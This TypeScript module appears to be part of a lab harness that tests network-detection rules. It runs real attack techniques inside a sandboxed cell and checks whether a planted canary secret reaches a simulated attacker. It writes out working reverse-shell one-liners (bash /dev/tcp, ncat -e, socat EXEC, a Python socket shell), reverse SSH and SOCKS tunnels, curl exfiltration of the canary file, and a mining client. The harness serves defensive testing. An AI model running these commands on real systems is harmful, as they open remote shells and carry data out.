/**
 * The acts: each uses a real tool in a cell, and says whether its payload arrived outside.
 *
 * @module
 */
import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import { join } from 'node:path';
import { createServer as createTlsServer } from 'node:tls';
import type { LabProject, Port } from './cell.ts';
import { HOST } from './cell.ts';
import { type Outside, PORTS } from './outside.ts';
import { exchange, hasProgram, within } from './processes.ts';
import { BEYOND, OUTSIDE } from './world.ts';

export interface Attack {
  name: string;
  /** row of the table */
  kind: string;
  /** any of these findings is the right one */
  rules: readonly string[];
  ports: readonly Port[];
  /** what runs in the cell */
  script: string;
  /** plays the outside; true: the payload was carried from end to end */
  outside(outside: Outside, canary: string): Promise<boolean>;
  /** programs that it needs on the machine */
  needs?: readonly string[];
  /** what the attacker has listening before the cell starts */
  before?(outside: Outside, canary: string): Promise<Listener>;
}

export interface Listener {
  carried(): Promise<boolean>;
  close(): void;
}

/** Puts the secret that a payload must carry into a project. */
export function plant(project: LabProject): string {
  const canary = `canary-${randomBytes(8).toString('hex')}`;
  writeFileSync(join(project.project.folder, 'canary.txt'), `${canary}\n`);
  return canary;
}

const SSH =
  'ssh -i client -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o IdentitiesOnly=yes';
const SERVE =
  'chmod 600 client client-rsa 2>/dev/null; socat TCP-LISTEN:8000,reuseaddr,fork,bind=127.0.0.1 FILE:canary.txt &';

/** A target that waits to be asked. */
const ASKED = SERVE.replace('FILE:canary.txt', "SYSTEM:'read x; cat canary.txt'");

let nextRemote: number = PORTS.reverse;

/** Comes back in through a port that a tunnel opened outside. */
function comesIn(port: number, after: number, text: string) {
  return async (_: Outside, canary: string) => {
    await new Promise((resolve) => setTimeout(resolve, after));
    return (
      (await within(45_000, async () => (await exchange(port, text, canary, 1500)).includes(canary))) ?? false
    );
  };
}

interface Client {
  name: string;
  needs: readonly string[];
  /** command that forwards a remote port to 8000 inside */
  command(remote: number, port: number, cipher: string): string;
  ciphers: readonly string[];
}

const OPENSSH_CIPHERS = ['chacha20-poly1305@openssh.com', 'aes128-gcm@openssh.com', 'aes256-ctr'];

export const CLIENTS: readonly Client[] = [
  {
    name: 'OpenSSH',
    needs: ['ssh'],
    ciphers: OPENSSH_CIPHERS,
    command: (remote, port, cipher) =>
      `${SSH} -c ${cipher} -N -R ${remote}:127.0.0.1:8000 -p ${port} root@${HOST}`,
  },
  {
    name: 'OpenSSH, multiplexed',
    needs: ['ssh'],
    ciphers: OPENSSH_CIPHERS,
    command: (remote, port, cipher) =>
      `${SSH} -c ${cipher} -M -S ./control -p ${port} root@${HOST} 'sleep 15' & ` +
      `for i in 1 2 3 4 5 6 7 8 9; do sleep 0.3; [ -S ./control ] && break; done; ` +
      `${SSH} -S ./control -O forward -R ${remote}:127.0.0.1:8000 -p ${port} root@${HOST}; wait`,
  },
  {
    name: 'OpenSSH, multiplexed without a session',
    needs: ['ssh'],
    ciphers: OPENSSH_CIPHERS.slice(0, 2),
    command: (remote, port, cipher) =>
      `${SSH} -c ${cipher} -M -N -f -S ./control -p ${port} root@${HOST}; ` +
      `${SSH} -S ./control -O forward -R ${remote}:127.0.0.1:8000 -p ${port} root@${HOST}; sleep 60`,
  },
  {
    name: 'autossh',
    needs: ['autossh'],
    ciphers: OPENSSH_CIPHERS.slice(0, 1),
    command: (remote, port, cipher) =>
      `AUTOSSH_GATETIME=0 autossh -M 0 ${SSH.slice(4)} -c ${cipher} -N -R ${remote}:127.0.0.1:8000 -p ${port} root@${HOST}`,
  },
  {
    name: 'dropbear',
    needs: ['dbclient', 'dropbearconvert'],
    ciphers: ['chacha20-poly1305@openssh.com', 'aes128-ctr', 'aes256-ctr'],
    command: (remote, port, cipher) =>
      `dropbearconvert openssh dropbear client-rsa client.db >/dev/null 2>&1; ` +
      `HOME=$PWD dbclient -y -y -i client.db -c ${cipher} -N -R ${remote}:127.0.0.1:8000 -p ${port} root@${HOST}`,
  },
  {
    name: 'paramiko',
    needs: ['python3'],
    ciphers: ['aes128-ctr', 'aes256-ctr', 'aes128-cbc'],
    command: (remote, port, cipher) =>
      `/usr/bin/python3 reverse_paramiko.py ${HOST} ${port} ${remote} 8000 ${cipher}`,
  },
  {
    name: 'ssh2',
    needs: ['node'],
    ciphers: ['aes128-gcm@openssh.com', 'aes256-gcm@openssh.com', 'aes128-ctr'],
    command: (remote, port, cipher) => `node reverse-ssh2.mjs ${HOST} ${port} ${remote} 8000 ${cipher}`,
  },
];

/** Remote forwarding by every client with every cipher. */
export function reverseSsh(): Attack[] {
  return CLIENTS.flatMap(({ name, needs, ciphers, command }) =>
    ciphers.map((cipher, at) => {
      nextRemote += 1;
      const port = [PORTS.ssh, PORTS.sshOdd, PORTS.sshWeb][at % 3] as number;
      // at once, or when the tunnel has been there for a while
      const atOnce = at % 2 === 1;
      const beside = name.includes('multiplexed');
      return {
        name: `${name} -R, ${cipher}, port ${port}`,
        kind: `reverse SSH: ${name}${beside ? (atOnce ? ', entered at once' : ', entered later') : ''}`,
        rules: beside
          ? ['remote-control.reverse-ssh', 'remote-control.reverse-ssh-suspected']
          : ['remote-control.reverse-ssh'],
        ports: [port],
        script: `${beside ? ASKED : SERVE} ${command(nextRemote, port, cipher)}`,
        outside: comesIn(nextRemote, atOnce ? 0 : beside ? 3500 : 1500, beside ? 'x\n' : ''),
        needs: [...needs, 'socat'],
      };
    }),
  );
}

/** Somebody waits outside for a shell, asks for the secret, and looks whether it comes. */
function waitsForShell(
  port: number,
  host: string,
  tls: boolean,
  orders: readonly string[] = ['id\n', 'pwd\n', 'cat canary.txt\n'],
) {
  return async (outside: Outside, canary: string): Promise<Listener> => {
    let carried = false;
    const onShell = (socket: Socket) => {
      let got = '';
      const left = [...orders];
      socket.on('error', () => {});
      socket.on('data', (data) => {
        got += data.toString('latin1');
        if (got.includes(canary)) carried = true;
      });
      const timer = setInterval(() => {
        const order = left.shift();
        if (order === undefined || socket.destroyed) clearInterval(timer);
        else socket.write(order);
      }, 400);
    };
    const { key, cert } = outside.certificates;
    const server = tls ? createTlsServer({ key, cert }, onShell) : createServer(onShell);
    server.on('tlsClientError', () => {});
    await new Promise<void>((resolve) => server.listen(port, host, resolve));
    return {
      carried: async () => (await within(30_000, () => carried)) ?? false,
      close: () => server.close(),
    };
  };
}

const byListener = async () => true;

export function shells(): Attack[] {
  const plain = (name: string, script: string, needs: readonly string[]): Attack => ({
    name,
    kind: 'shell in the clear',
    rules: ['remote-control.shell'],
    ports: [PORTS.shell],
    script,
    needs,
    before: waitsForShell(PORTS.shell, OUTSIDE, false),
    outside: byListener,
  });
  const sealed = (
    name: string,
    port: number,
    script: string,
    needs: readonly string[],
    host: string,
  ): Attack => ({
    name,
    kind: 'shell inside TLS',
    rules: ['remote-control.driven-flow'],
    ports: [port],
    script,
    needs,
    before: waitsForShell(host === OUTSIDE ? port : port + 1, host, host === OUTSIDE),
    outside: byListener,
  });
  return [
    plain('ncat -e', `ncat ${HOST} ${PORTS.shell} -e /bin/sh`, ['ncat']),
    plain('bash /dev/tcp', `bash -c 'bash -i >& /dev/tcp/${HOST}/${PORTS.shell} 0>&1'`, ['bash']),
    plain(
      'socat with a terminal',
      `socat TCP:${HOST}:${PORTS.shell} EXEC:/bin/bash,pty,stderr,setsid,sigint,sane`,
      ['socat'],
    ),
    plain(
      'python',
      `/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.create_connection(("${HOST}",${PORTS.shell}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
      ['python3'],
    ),
    sealed(
      'ncat --ssl',
      PORTS.shellTls,
      `ncat --ssl ${HOST} ${PORTS.shellTls} -e /bin/sh`,
      ['ncat'],
      OUTSIDE,
    ),
    sealed(
      'socat openssl',
      PORTS.shellTls,
      `socat OPENSSL:${HOST}:${PORTS.shellTls},verify=0 EXEC:/bin/sh`,
      ['socat'],
      OUTSIDE,
    ),
    sealed(
      'stunnel',
      PORTS.stunnel,
      `printf 'foreground = yes\\npid =\\nclient = yes\\n[s]\\naccept = 127.0.0.1:9999\\nconnect = ${HOST}:${PORTS.stunnel}\\n' > s.conf; stunnel4 s.conf 2>s.log & for i in $(seq 150); do sleep 0.2; grep -q successful s.log && ncat 127.0.0.1 9999 -e /bin/sh && break; done`,
      ['stunnel4', 'ncat'],
      '127.0.0.1',
    ),
  ];
}

/** What only the other side of a tunnel reaches must hear the secret. */
const reachesBeyond = async (outside: Outside, canary: string) =>
  (await within(30_000, () => outside.beyond.some((told) => told.includes(canary)))) ?? false;

const POST = (proxy: string) =>
  `for i in 1 2 3 4 5 6 7 8; do curl -s -m 3 ${proxy} --data-binary @canary.txt http://${BEYOND}:${PORTS.beyond}/ && break; sleep 0.3; done; sleep 1`;

export function tunnels(): Attack[] {
  const forward = (name: string, option: string, proxy: string, port: number): Attack => ({
    name,
    kind: `ssh ${name.split(' ')[1]}`,
    rules: ['exfiltration.ssh-forward'],
    ports: [port],
    script: `chmod 600 client; ${SSH} -N ${option} -p ${port} root@${HOST} & ${POST(proxy)}`,
    outside: reachesBeyond,
    needs: ['ssh', 'curl'],
  });
  const local = `--connect-to ${BEYOND}:${PORTS.beyond}:127.0.0.1:1234`;
  return [
    forward('OpenSSH -L', `-L 1234:${BEYOND}:${PORTS.beyond}`, local, PORTS.sshOdd),
    forward('OpenSSH -D', '-D 1235', '-x socks5://127.0.0.1:1235', PORTS.sshWeb),
    {
      name: 'SOCKS5',
      kind: 'SOCKS',
      rules: ['exfiltration.proxy'],
      ports: [PORTS.socks],
      script: POST(`-x socks5://${HOST}:${PORTS.socks}`),
      outside: reachesBeyond,
      needs: ['microsocks', 'curl'],
    },
    {
      name: 'socat, the outside as client',
      kind: 'plain reverse tunnel',
      rules: ['remote-control.client-outside'],
      ports: [PORTS.shell],
      script: `${SERVE.replace('FILE:canary.txt', "SYSTEM:'read x; cat canary.txt'")} sleep 0.3; socat TCP:${HOST}:${PORTS.shell} TCP:127.0.0.1:8000`,
      before: waitsForShell(PORTS.shell, OUTSIDE, false, ['GET / HTTP/1.1\r\nHost: inside\r\n\r\n']),
      outside: byListener,
      needs: ['socat'],
    },
  ];
}

export function mining(): Attack[] {
  const accepted = async (outside: Outside) => {
    const before = outside.pool.accepted;
    return (await within(45_000, () => outside.pool.accepted >= before + 6)) ?? false;
  };
  const mine = (name: string, port: number, tls: string, rules: readonly string[]): Attack => ({
    name,
    kind: name,
    rules,
    ports: [port],
    script: `node miner.mjs ${HOST} ${port} 12 ${tls}`,
    outside: accepted,
    needs: ['node'],
  });
  return [
    mine('Stratum in the clear', PORTS.pool, '', ['compute-diversion.stratum']),
    mine('Stratum inside TLS', PORTS.poolTls, 'tls', ['compute-diversion.stratum-shaped']),
  ];
}

/** Whether the machine has what an act needs. */
export const missing = ({ needs = [] }: Attack): string[] => needs.filter((name) => !hasProgram(name));
